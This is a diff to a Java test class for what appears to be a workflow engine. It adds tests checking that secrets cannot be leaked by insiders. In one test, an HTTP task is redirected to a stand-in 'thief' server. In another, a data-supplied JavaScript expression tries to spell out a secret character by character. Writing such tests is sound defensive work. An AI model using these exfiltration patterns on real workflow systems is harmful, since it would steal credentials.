@@ -389,21 +389,79 @@ class InsiderFlowTest {
     }
 
     private static Map<String, Object> allowing(String type, Map<String, Object> given) {
-        Map<String, Object> fork = dynamicFork("${workflow.input.tasks}", Map.of("d1", given));
-        return workflow(
-                fresh("allowing"),
-                with(
-                        fork,
+        return workflow(fresh("allowing"), forkAllowing(type, given), task("join", "JOIN", Map.of()));
+    }
+
+    private static Map<String, Object> forkAllowing(String type, Map<String, Object> given) {
+        return with(
+                dynamicFork("${workflow.input.tasks}", Map.of("d1", given)),
+                Map.of(
+                        "inputParameters",
                         Map.of(
-                                "inputParameters",
-                                Map.of(
-                                        "tasks",
-                                        "${workflow.input.tasks}",
-                                        "inputs",
-                                        Map.of("d1", given),
-                                        "allowedTasks",
-                                        List.of(type)))),
-                task("join", "JOIN", Map.of()));
+                                "tasks",
+                                "${workflow.input.tasks}",
+                                "inputs",
+                                Map.of("d1", given),
+                                "allowedTasks",
+                                List.of(type))));
+    }
+
+    /** The engine adds the number of the iteration to the names of forked tasks after it has listed them. */
+    @Test
+    void forkedTasksOfALoopGetSecretsByTheirAuthorsInputsOnly() {
+        Map<String, Object> listed = Map.of("name", "d1", "taskReferenceName", "d1", "type", "HTTP");
+        Map<String, Object> call = Map.of("uri", service.url() + "/honest", "method", "POST", "body", reference());
+        ended(ann.api(), start(looping(forkAllowing("HTTP", call)), Map.of("tasks", List.of(listed))), "COMPLETED");
+        assertThat(service.requests()).extracting(Receiver.Request::body).containsExactly(value, value);
+
+        Map<String, Object> half = Map.of("method", "POST", "body", reference());
+        Map<String, Object> turned = with(listed, Map.of("inputParameters", Map.of("uri", thief.url())));
+        start(looping(forkAllowing("HTTP", half)), Map.of("tasks", List.of(turned)));
+        Bait.patiently().until(() -> !thief.requests().isEmpty());
+        nothingIsStolen();
+    }
+
+    private static Map<String, Object> looping(Map<String, Object> fork) {
+        return workflow(
+                fresh("looping"),
+                with(
+                        task("loop", "DO_WHILE", Map.of()),
+                        Map.of(
+                                "loopCondition",
+                                "$.loop.iteration < 2",
+                                "loopOver",
+                                List.of(fork, task("join", "JOIN", Map.of())))));
+    }
+
+    /** Ann lets data choose among types, one of which runs a program; the program is data, too. */
+    @Test
+    void dynamicTaskRunsNoProgramFromDataOnASecret() {
+        Map<String, Object> inputs = Map.of(
+                "tt",
+                "${workflow.input.t}",
+                "k",
+                reference(),
+                "evaluatorType",
+                "graaljs",
+                "allowedTasks",
+                List.of("INLINE"));
+        Map<String, Object> script = Map.of("t", "INLINE", "e", "({_public: {a: $.k.split('').join('-')}})");
+
+        JsonNode stolen = ended(
+                ann.api(),
+                start(dynamic(with(inputs, Map.of("expression", "${workflow.input.e}"))), script),
+                "COMPLETED");
+        assertThat(stolen.at("/tasks/0/outputData/result/_public/a").asText()).startsWith("$-{-w-o-r-k");
+
+        JsonNode honest = ended(
+                ann.api(),
+                start(dynamic(with(inputs, Map.of("expression", "({_public: {n: $.k.length}})"))), script),
+                "COMPLETED");
+        assertThat(honest.at("/tasks/0/outputData/result/_public/n").asInt()).isEqualTo(value.length());
+    }
+
+    private static Map<String, Object> dynamic(Map<String, Object> inputs) {
+        return workflow(fresh("choosing"), with(task("d", "DYNAMIC", inputs), Map.of("dynamicTaskNameParam", "tt")));
     }
 
     @Test
